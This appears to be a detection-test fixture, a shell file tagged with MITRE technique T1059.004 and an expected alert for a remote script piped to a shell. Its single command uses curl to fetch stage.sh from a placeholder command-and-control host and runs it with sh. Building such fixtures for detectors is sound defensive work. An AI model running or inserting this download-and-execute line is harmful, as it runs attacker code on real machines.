# category: suspicious-network
# technique: T1059.004
# art: yes
# expect: remote-script-piped-to-shell
# image: debian
# net: yes
# desc: curl fetches a script from the attacker and pipes it straight into sh
curl -s "http://$C2/stage.sh" | sh
